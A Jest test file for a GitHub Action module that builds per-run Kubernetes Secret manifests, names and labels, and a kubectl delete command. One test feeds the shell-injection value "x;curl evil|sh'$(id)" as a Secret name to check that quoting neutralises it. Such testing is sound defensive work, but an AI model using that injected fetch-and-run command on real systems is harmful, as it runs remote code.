import { afterAll, describe, expect, it } from '@jest/globals'

// @actions/github reads the run's context once, when it is first imported.
const savedEnv = { ...process.env }
for (const key of Object.keys(process.env)) {
  if (key.startsWith('GITHUB_')) Reflect.deleteProperty(process.env, key)
}
Object.assign(process.env, {
  GITHUB_REPOSITORY: 'octo-org/scan-repo',
  GITHUB_RUN_ID: '987654321',
  GITHUB_RUN_ATTEMPT: '2',
  GITHUB_WORKFLOW: 'Security scan (nightly)',
  GITHUB_JOB: 'inspec',
  GITHUB_ACTOR: 'octocat',
  GITHUB_SHA: '0123456789abcdef0123456789abcdef01234567',
  GITHUB_SERVER_URL: 'https://github.com'
})
const { MANAGED_BY } = await import('../../../../src/core/names.js')
const {
  deleteCommand,
  isPerRunSecretName,
  shellWord,
  perRunSecretManifest,
  perRunSecretName,
  labelValue,
  runSelector
} = await import('../../../../src/core/token/per-run-secret.js')

afterAll(() => {
  for (const key of Object.keys(process.env)) {
    if (!(key in savedEnv)) Reflect.deleteProperty(process.env, key)
  }
  Object.assign(process.env, savedEnv)
})

const LABEL_VALUE = /^(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?$/
const DNS1123_SUBDOMAIN =
  /^[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*$/

function expectValidLabels(labels: Record<string, string>): void {
  for (const [key, value] of Object.entries(labels)) {
    expect(value.length).toBeLessThanOrEqual(63)
    expect(value).toMatch(LABEL_VALUE)
    const [prefix, name] = key.split('/')
    expect(prefix).toMatch(DNS1123_SUBDOMAIN)
    expect(name?.length).toBeLessThanOrEqual(63)
    expect(name).toMatch(LABEL_VALUE)
  }
}

describe('per-run-secret.ts', () => {
  describe('deleteCommand and runSelector', () => {
    it('names exactly one Secret, and only if it carries our label', () => {
      expect(
        deleteCommand({
          namespace: 'scans',
          name: 'ephemeral-scan-token-9-2-ab'
        })
      ).toBe(
        'kubectl delete secret -n scans -l app.kubernetes.io/managed-by=ephemeral-scan-token --field-selector metadata.name=ephemeral-scan-token-9-2-ab'
      )
    })

    it('selects the Secrets of this run attempt by the labels the manifest sets', () => {
      const selector = runSelector()
      expect(selector).toBe(
        'app.kubernetes.io/managed-by=ephemeral-scan-token,ephemeral-scan-token/run-id=987654321,ephemeral-scan-token/run-attempt=2'
      )
      const labels =
        perRunSecretManifest(
          { namespace: 'scans', name: 'n' },
          'scanner',
          new Date()
        ).metadata?.labels ?? {}
      for (const pair of selector.split(',')) {
        const [key, value] = pair.split('=')
        expect(labels[key ?? '']).toBe(value)
      }
    })

    it('quotes for a shell whatever reaches the line, so a copied command runs only kubectl', () => {
      const line = deleteCommand({
        namespace: 'scans',
        name: "x;curl evil|sh'$(id)"
      })
      expect(line).toBe(
        `kubectl delete secret -n scans -l app.kubernetes.io/managed-by=ephemeral-scan-token --field-selector 'metadata.name=x;curl evil|sh'\\''$(id)'`
      )
      expect(shellWord('plain-name.1')).toBe('plain-name.1')
      expect(shellWord('a b')).toBe(`'a b'`)
    })

    it('leaves out run labels it has no value for', () => {
      expect(runSelector({})).toBe(
        'app.kubernetes.io/managed-by=ephemeral-scan-token'
      )
    })
  })

  describe('labelValue', () => {
    it.each<[string, string]>([
      ['scanner', 'scanner'],
      ['octo-org/scan-repo', 'octo-org_scan-repo'],
      ['-_.edge._-', 'edge'],
      ['a b  c', 'a_b_c'],
      ['ünïcode', 'n_code'],
      ['', '']
    ])('turns %p into the valid label value %p', (raw, value) => {
      expect(labelValue(raw)).toBe(value)
      expect(labelValue(raw)).toMatch(LABEL_VALUE)
    })

    it('cuts long values to 63 characters and still ends on a letter or digit', () => {
      const value = labelValue(`${'a'.repeat(62)}.-tail`)
      expect(value).toBe('a'.repeat(62))
      const long = labelValue('x'.repeat(300))
      expect(long).toHaveLength(63)
      expect(long).toMatch(LABEL_VALUE)
    })
  })

  describe('isPerRunSecretName', () => {
    it('accepts the names perRunSecretName gives in this run attempt, and nothing else', () => {
      const env = { GITHUB_RUN_ID: '4242', GITHUB_RUN_ATTEMPT: '1' }
      const mine = perRunSecretName(env)
      expect(isPerRunSecretName(mine, env)).toBe(true)
      for (const other of [
        '..',
        '',
        'database-credentials',
        'ephemeral-scan-token-4242-2-0123456789',
        'ephemeral-scan-token-999-1-0123456789',
        'ephemeral-scan-token-4242-1-012345678',
        'ephemeral-scan-token-4242-1-0123456789a',
        'ephemeral-scan-token-4242-1-01234567zz',
        `${mine}/..`
      ]) {
        expect(isPerRunSecretName(other, env)).toBe(false)
      }
    })
  })

  describe('perRunSecretName', () => {
    it('says which run made it and is a DNS-1123 name', () => {
      const name = perRunSecretName()
      expect(name).toMatch(/^ephemeral-scan-token-987654321-2-[0-9a-f]{10}$/)
      expect(name).toMatch(DNS1123_SUBDOMAIN)
    })

    it('is different every time', () => {
      const names = new Set(
        Array.from({ length: 50 }, () => perRunSecretName())
      )
      expect(names.size).toBe(50)
    })

    it('stays a valid Secret name whatever the run variables hold', () => {
      const saved = {
        run: process.env.GITHUB_RUN_ID,
        attempt: process.env.GITHUB_RUN_ATTEMPT
      }
      try {
        process.env.GITHUB_RUN_ID = 'Local Run_#1.'
        process.env.GITHUB_RUN_ATTEMPT = '_'.repeat(100)
        const name = perRunSecretName()
        expect(name).toMatch(DNS1123_SUBDOMAIN)
        expect(name.length).toBeLessThanOrEqual(253)
        delete process.env.GITHUB_RUN_ID
        delete process.env.GITHUB_RUN_ATTEMPT
        expect(perRunSecretName()).toMatch(
          /^ephemeral-scan-token-local-1-[0-9a-f]{10}$/
        )
      } finally {
        process.env.GITHUB_RUN_ID = saved.run
        process.env.GITHUB_RUN_ATTEMPT = saved.attempt
      }
    })
  })

  describe('perRunSecretManifest', () => {
    const expiresAt = new Date('2025-11-22T23:00:00.123Z')
    const ref = {
      namespace: 'scans',
      name: 'ephemeral-scan-token-987654321-2-0123456789'
    }

    it('is an immutable Opaque Secret with the given name and namespace and no data', () => {
      const secret = perRunSecretManifest(ref, 'scanner', expiresAt)
      expect(secret).toMatchObject({
        apiVersion: 'v1',
        kind: 'Secret',
        type: 'Opaque',
        immutable: true,
        metadata: { name: ref.name, namespace: 'scans' }
      })
      expect(secret.data).toBeUndefined()
      expect(secret.stringData).toBeUndefined()
    })

    it('labels it so an admin can find and sweep what runs left behind', () => {
      const labels =
        perRunSecretManifest(ref, 'scanner', expiresAt).metadata?.labels ?? {}
      expect(MANAGED_BY).toBe('ephemeral-scan-token')
      expect(labels).toEqual({
        'app.kubernetes.io/managed-by': 'ephemeral-scan-token',
        'ephemeral-scan-token/service-account': 'scanner',
        'ephemeral-scan-token/expires-at': String(
          Math.floor(expiresAt.getTime() / 1000)
        ),
        'ephemeral-scan-token/repository': 'octo-org_scan-repo',
        'ephemeral-scan-token/run-id': '987654321',
        'ephemeral-scan-token/run-attempt': '2'
      })
      expectValidLabels(labels)
    })

    it('keeps every label valid for a 253-character ServiceAccount name', () => {
      const serviceAccount = `${'a'.repeat(62)}.${'b'.repeat(62)}.${'c'.repeat(62)}.${'d'.repeat(64)}`
      expect(serviceAccount).toHaveLength(253)
      const labels =
        perRunSecretManifest(ref, serviceAccount, expiresAt).metadata?.labels ??
        {}
      expect(labels['ephemeral-scan-token/service-account']).toBe(
        'a'.repeat(62)
      )
      expectValidLabels(labels)
    })

    it('annotates it with the full repository, workflow, run, job, actor, sha and expiry', () => {
      const annotations =
        perRunSecretManifest(ref, 'scanner', expiresAt).metadata?.annotations ??
        {}
      expect(annotations).toMatchObject({
        'ephemeral-scan-token/repository': 'octo-org/scan-repo',
        'ephemeral-scan-token/workflow': 'Security scan (nightly)',
        'ephemeral-scan-token/run-id': '987654321',
        'ephemeral-scan-token/run-attempt': '2',
        'ephemeral-scan-token/job': 'inspec',
        'ephemeral-scan-token/actor': 'octocat',
        'ephemeral-scan-token/sha': '0123456789abcdef0123456789abcdef01234567',
        'ephemeral-scan-token/server-url': 'https://github.com',
        'ephemeral-scan-token/expires-at': '2025-11-22T23:00:00Z'
      })
      expect(annotations['ephemeral-scan-token/purpose']).toMatch(
        /deleting this Secret revokes the token/
      )
    })

    it('leaves out run labels and annotations it has no value for', () => {
      const saved = { ...process.env }
      try {
        delete process.env.GITHUB_REPOSITORY
        delete process.env.GITHUB_RUN_ID
        delete process.env.GITHUB_RUN_ATTEMPT
        delete process.env.GITHUB_SERVER_URL
        const metadata = perRunSecretManifest(
          ref,
          'scanner',
          expiresAt
        ).metadata
        expect(Object.keys(metadata?.labels ?? {}).sort()).toEqual([
          'app.kubernetes.io/managed-by',
          'ephemeral-scan-token/expires-at',
          'ephemeral-scan-token/service-account'
        ])
        expect(metadata?.annotations).not.toHaveProperty(
          'ephemeral-scan-token/repository'
        )
        expect(metadata?.annotations).not.toHaveProperty(
          'ephemeral-scan-token/run-id'
        )
        expect(metadata?.annotations).not.toHaveProperty(
          'ephemeral-scan-token/server-url'
        )
      } finally {
        Object.assign(process.env, saved)
      }
    })
  })
})
